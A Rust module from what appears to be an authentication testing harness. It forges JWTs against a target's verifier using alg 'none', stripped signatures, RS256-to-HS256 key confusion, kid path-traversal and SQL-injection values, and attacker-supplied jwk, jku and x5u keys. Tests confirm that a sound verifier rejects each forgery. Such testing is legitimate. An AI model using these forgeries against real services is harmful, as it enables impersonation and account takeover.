//! Forgeries of a target's own JWT, as an attacker makes them from one
//! token she was issued (RFC 8725 §2-3; OWASP JWT Cheat Sheet): `alg: none`
//! in every spelling, the signature stripped, RS256 turned into HS256 with
//! the target's public key as the secret, a `kid` that is a path or SQL, a
//! key of her own embedded (`jwk`) or pointed to (`jku`, `x5u`), and the
//! payload edited under the original signature. Each forgery carries the
//! header it was sent with, for the evidence: the token itself is a
//! secret's shape and is redacted in every report.
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine as _;
use jsonwebtoken::{Algorithm, EncodingKey};
use rsa::pkcs8::DecodePublicKey;
use rsa::traits::PublicKeyParts;
use serde_json::{json, Map, Value};

/// A compact JWS the target issued, taken apart.
#[derive(Debug, Clone)]
pub struct IssuedJwt {
    pub header: Map<String, Value>,
    pub claims: Map<String, Value>,
    raw_header: String,
    raw_claims: String,
    signature: String,
}

/// One forged token and how it was made.
#[derive(Debug, Clone)]
pub struct Forged {
    /// What was done, in words ("alg \"None\"").
    pub label: String,
    pub token: String,
    /// The header sent, as compact JSON (not secret: it names no key).
    pub header: String,
}

/// What a forgery could not be made from.
#[derive(Debug, thiserror::Error)]
pub enum ForgeError {
    #[error("the key to sign with: {0}")]
    Key(String),
    #[error("signing the forgery: {0}")]
    Sign(String),
}

impl IssuedJwt {
    /// The token taken apart, when it is a JWT: three base64url segments,
    /// a JSON header naming an `alg`, and JSON claims.
    pub fn parse(token: &str) -> Option<IssuedJwt> {
        let mut it = token.split('.');
        let (h, p, s) = (it.next()?, it.next()?, it.next()?);
        if it.next().is_some() {
            return None;
        }
        let object = |seg: &str| -> Option<Map<String, Value>> {
            serde_json::from_slice::<Value>(&URL_SAFE_NO_PAD.decode(seg).ok()?).ok()?.as_object().cloned()
        };
        let header = object(h)?;
        header.get("alg")?.as_str()?;
        Some(IssuedJwt { header, claims: object(p)?, raw_header: h.into(), raw_claims: p.into(), signature: s.into() })
    }

    pub fn alg(&self) -> &str {
        self.header.get("alg").and_then(Value::as_str).unwrap_or_default()
    }

    /// "RS256 JWT, kid 4f1c…": what the harness recognised, for notes.
    pub fn describe(&self) -> String {
        match self.header.get("kid").and_then(Value::as_str) {
            Some(kid) => format!("{} JWT, kid {kid}", self.alg()),
            None => format!("{} JWT", self.alg()),
        }
    }

    pub fn subject(&self) -> Option<&str> {
        self.claims.get("sub").and_then(Value::as_str)
    }

    /// The header with `changes` applied (a `null` removes a field).
    fn header_with(&self, changes: Value) -> Map<String, Value> {
        let mut h = self.header.clone();
        for (k, v) in changes.as_object().into_iter().flatten() {
            match v {
                Value::Null => h.remove(k),
                v => h.insert(k.clone(), v.clone()),
            };
        }
        h
    }

    /// `header.claims.` with no signature.
    fn unsigned(&self, label: String, header: Map<String, Value>) -> Forged {
        let compact = Value::Object(header).to_string();
        Forged { label, token: format!("{}.{}.", b64(&compact), self.raw_claims), header: compact }
    }

    /// `header.claims.signature`, signed with `key` under `alg`.
    fn signed(
        &self,
        label: String,
        header: Map<String, Value>,
        key: &EncodingKey,
        alg: Algorithm,
    ) -> Result<Forged, ForgeError> {
        let compact = Value::Object(header).to_string();
        let input = format!("{}.{}", b64(&compact), self.raw_claims);
        let signature =
            jsonwebtoken::crypto::sign(input.as_bytes(), key, alg).map_err(|e| ForgeError::Sign(e.to_string()))?;
        Ok(Forged { label, token: format!("{input}.{signature}"), header: compact })
    }

    /// `alg: none` as RFC 7518 §3.6 spells it, and as filters that compare
    /// case-sensitively miss it.
    pub fn alg_none(&self) -> Vec<Forged> {
        ["none", "None", "NONE", "nOnE"]
            .into_iter()
            .map(|spelling| {
                self.unsigned(format!("alg \"{spelling}\", no signature"), self.header_with(json!({ "alg": spelling })))
            })
            .collect()
    }

    /// The issued header and claims, the signature cut off.
    pub fn stripped(&self) -> Forged {
        Forged {
            label: "the signature stripped".into(),
            token: format!("{}.{}.", self.raw_header, self.raw_claims),
            header: Value::Object(self.header.clone()).to_string(),
        }
    }

    /// HS256 with the target's RSA public key as the HMAC secret, in each
    /// form a verifier may hold it: SPKI PEM with and without its final
    /// newline, PKCS#1 PEM (RFC 8725 §2.1, "algorithm confusion").
    pub fn hmac_with_public_key(&self, spki_pem: &str) -> Result<Vec<Forged>, ForgeError> {
        use rsa::pkcs1::EncodeRsaPublicKey;
        let public = rsa::RsaPublicKey::from_public_key_pem(spki_pem).map_err(|e| ForgeError::Key(e.to_string()))?;
        let pkcs1 = public.to_pkcs1_pem(rsa::pkcs8::LineEnding::LF).map_err(|e| ForgeError::Key(e.to_string()))?;
        let header = self.header_with(json!({ "alg": "HS256" }));
        let forms = [
            ("SPKI PEM", spki_pem.to_string()),
            ("SPKI PEM without its last newline", spki_pem.trim_end().to_string()),
            ("PKCS#1 PEM", pkcs1),
        ];
        forms
            .into_iter()
            .map(|(form, secret)| {
                let key = EncodingKey::from_secret(secret.as_bytes());
                let label = format!("HS256 keyed with the target's public key as {form}");
                self.signed(label, header.clone(), &key, Algorithm::HS256)
            })
            .collect()
    }

    /// A `kid` that walks to `/dev/null` (an empty key file), and one that
    /// is SQL choosing its own key, each HS256 with the secret that lookup
    /// would yield (RFC 8725 §3.10).
    pub fn kid_injection(&self) -> Result<Vec<Forged>, ForgeError> {
        let cases = [
            ("a kid walking to /dev/null, HS256 with an empty secret", "../../../../../../../../../../dev/null", ""),
            (
                "a kid of SQL selecting its own key, HS256 with that key",
                "x' UNION SELECT 'authconform'-- ",
                "authconform",
            ),
        ];
        cases
            .into_iter()
            .map(|(label, kid, secret)| {
                let header = self.header_with(json!({ "alg": "HS256", "kid": kid }));
                self.signed(label.into(), header, &EncodingKey::from_secret(secret.as_bytes()), Algorithm::HS256)
            })
            .collect()
    }

    /// Signed with the attacker's RSA key, which the header embeds as a `jwk`.
    pub fn embedded_jwk(&self, attacker: &AttackerKeys) -> Result<Forged, ForgeError> {
        let header = self.header_with(json!({ "alg": "RS256", "kid": attacker.kid, "jwk": attacker.jwk() }));
        self.signed(
            "an embedded jwk of the attacker's, RS256 with her key".into(),
            header,
            &attacker.rsa,
            Algorithm::RS256,
        )
    }

    /// Signed with the attacker's RSA key, which `jku_url` serves as a JWKS.
    pub fn jku(&self, attacker: &AttackerKeys, jku_url: &str) -> Result<Forged, ForgeError> {
        let header = self.header_with(json!({ "alg": "RS256", "kid": attacker.kid, "jku": jku_url }));
        self.signed(
            "a jku naming the attacker's JWKS, RS256 with her key".into(),
            header,
            &attacker.rsa,
            Algorithm::RS256,
        )
    }

    /// Signed ES256 with the key of the attacker's certificate, which
    /// `x5u_url` serves.
    pub fn x5u(&self, attacker: &AttackerKeys, x5u_url: &str) -> Result<Forged, ForgeError> {
        let header = self.header_with(json!({ "alg": "ES256", "kid": null, "x5u": x5u_url }));
        self.signed(
            "an x5u naming the attacker's certificate, ES256 with its key".into(),
            header,
            &attacker.ec,
            Algorithm::ES256,
        )
    }

    /// The claims with `claim` set to `value`, under the issued header and
    /// signature.
    pub fn edited(&self, label: String, claim: &str, value: Value) -> Forged {
        let mut claims = self.claims.clone();
        claims.insert(claim.into(), value);
        let raw = b64(&Value::Object(claims).to_string());
        Forged {
            label,
            token: format!("{}.{raw}.{}", self.raw_header, self.signature),
            header: Value::Object(self.header.clone()).to_string(),
        }
    }

    /// The token with one character of its signature changed, where it
    /// carries whole bits: the last character of a base64url signature may
    /// hold padding bits only, which a lenient decoder ignores.
    pub fn signature_altered(&self) -> String {
        let mut sig: Vec<char> = self.signature.chars().collect();
        let middle = sig.len() / 2;
        if let Some(c) = sig.get_mut(middle) {
            *c = if *c == 'A' { 'B' } else { 'A' };
        }
        let sig: String = sig.into_iter().collect();
        format!("{}.{}.{sig}", self.raw_header, self.raw_claims)
    }
}

/// The attacker's own keys: an RSA pair (for `jwk` and `jku`) and a
/// self-signed certificate's EC key (for `x5u`).
pub struct AttackerKeys {
    pub kid: String,
    rsa: EncodingKey,
    n: Vec<u8>,
    e: Vec<u8>,
    ec: EncodingKey,
    /// The certificate `x5u` names, PEM.
    pub cert_pem: String,
}

impl AttackerKeys {
    /// From an RSA pair's (SPKI, PKCS#8) PEMs; the certificate is made here.
    pub fn new(public_pem: &str, private_pem: &str) -> Result<AttackerKeys, ForgeError> {
        let key = |e: String| ForgeError::Key(e);
        let public = rsa::RsaPublicKey::from_public_key_pem(public_pem).map_err(|e| key(e.to_string()))?;
        let cert = rcgen::generate_simple_self_signed(vec!["attacker.authconform.test".to_string()])
            .map_err(|e| key(e.to_string()))?;
        Ok(AttackerKeys {
            kid: "authconform-attacker".into(),
            rsa: EncodingKey::from_rsa_pem(private_pem.as_bytes()).map_err(|e| key(e.to_string()))?,
            n: public.n().to_bytes_be(),
            e: public.e().to_bytes_be(),
            ec: EncodingKey::from_ec_pem(cert.signing_key.serialize_pem().as_bytes())
                .map_err(|e| key(e.to_string()))?,
            cert_pem: cert.cert.pem(),
        })
    }

    /// The attacker's public RSA key as a JWK (RFC 7517 §4, RFC 7518 §6.3).
    pub fn jwk(&self) -> Value {
        json!({ "kty": "RSA", "use": "sig", "alg": "RS256", "kid": self.kid, "n": URL_SAFE_NO_PAD.encode(&self.n), "e": URL_SAFE_NO_PAD.encode(&self.e) })
    }

    /// The JWKS a `jku` names.
    pub fn jwks(&self) -> Value {
        json!({ "keys": [self.jwk()] })
    }
}

/// The SPKI PEM of the RSA key in a JWKS for `kid` (or its only RSA key).
pub fn public_pem_from_jwks(jwks: &Value, kid: Option<&str>) -> Option<String> {
    use rsa::pkcs8::EncodePublicKey;
    let keys = jwks.get("keys")?.as_array()?;
    let rsa_keys: Vec<&Value> = keys.iter().filter(|k| k.get("kty").and_then(Value::as_str) == Some("RSA")).collect();
    let key = match kid {
        Some(kid) => rsa_keys.iter().find(|k| k.get("kid").and_then(Value::as_str) == Some(kid)).copied(),
        None => None,
    }
    .or_else(|| (rsa_keys.len() == 1).then(|| rsa_keys[0]))?;
    let int = |name: &str| -> Option<rsa::BigUint> {
        Some(rsa::BigUint::from_bytes_be(&URL_SAFE_NO_PAD.decode(key.get(name)?.as_str()?).ok()?))
    };
    let public = rsa::RsaPublicKey::new(int("n")?, int("e")?).ok()?;
    public.to_public_key_pem(rsa::pkcs8::LineEnding::LF).ok()
}

fn b64(s: &str) -> String {
    URL_SAFE_NO_PAD.encode(s.as_bytes())
}

#[cfg(test)]
mod tests {
    use super::*;
    use jsonwebtoken::{DecodingKey, Validation};

    fn issued() -> (String, String, String) {
        let pair = crate::crypto::KeyPair::generate(crate::crypto::OaepHash::Sha256).unwrap();
        let (public, private) = pair.pem_pair().unwrap();
        let mut header = jsonwebtoken::Header::new(Algorithm::RS256);
        header.kid = Some("k1".into());
        let claims = json!({ "sub": "u1", "exp": 4_000_000_000u64 });
        let token =
            jsonwebtoken::encode(&header, &claims, &EncodingKey::from_rsa_pem(private.as_bytes()).unwrap()).unwrap();
        (token, public, private)
    }

    #[test]
    fn forgeries_say_what_they_claim_and_fail_a_sound_verifier() {
        let (token, public, _) = issued();
        let jwt = IssuedJwt::parse(&token).unwrap();
        assert_eq!(jwt.describe(), "RS256 JWT, kid k1");
        assert_eq!(jwt.subject(), Some("u1"));
        let other = crate::crypto::KeyPair::generate(crate::crypto::OaepHash::Sha256).unwrap();
        let (their_public, their_private) = other.pem_pair().unwrap();
        let attacker = AttackerKeys::new(&their_public, &their_private).unwrap();
        let mut all = jwt.alg_none();
        all.push(jwt.stripped());
        all.extend(jwt.hmac_with_public_key(&public).unwrap());
        all.extend(jwt.kid_injection().unwrap());
        all.push(jwt.embedded_jwk(&attacker).unwrap());
        all.push(jwt.jku(&attacker, "http://127.0.0.1:9/jwks.json").unwrap());
        all.push(jwt.x5u(&attacker, "http://127.0.0.1:9/cert.pem").unwrap());
        all.push(jwt.edited("sub".into(), "sub", json!("u2")));
        let sound = DecodingKey::from_rsa_pem(public.as_bytes()).unwrap();
        assert!(jsonwebtoken::decode::<Value>(&token, &sound, &Validation::new(Algorithm::RS256)).is_ok());
        for f in &all {
            assert!(
                jsonwebtoken::decode::<Value>(&f.token, &sound, &Validation::new(Algorithm::RS256)).is_err(),
                "{}",
                f.label
            );
        }
        // The HS256 forgery really is keyed with the public PEM: a verifier
        // that takes the algorithm from the header accepts it.
        let confused = &jwt.hmac_with_public_key(&public).unwrap()[0];
        let hmac = DecodingKey::from_secret(public.as_bytes());
        assert!(jsonwebtoken::decode::<Value>(&confused.token, &hmac, &Validation::new(Algorithm::HS256)).is_ok());
        // The embedded key verifies its own forgery.
        let jwk: jsonwebtoken::jwk::Jwk = serde_json::from_value(attacker.jwk()).unwrap();
        let embedded = jwt.embedded_jwk(&attacker).unwrap();
        let mut v = Validation::new(Algorithm::RS256);
        v.validate_exp = false;
        assert!(jsonwebtoken::decode::<Value>(&embedded.token, &DecodingKey::from_jwk(&jwk).unwrap(), &v).is_ok());
        assert!(public_pem_from_jwks(&json!({ "keys": [attacker.jwk()] }), Some("nope")).is_some());
        assert!(IssuedJwt::parse("opaque-token").is_none() && IssuedJwt::parse("a.b.c").is_none());
        assert_ne!(jwt.signature_altered(), token);
    }
}
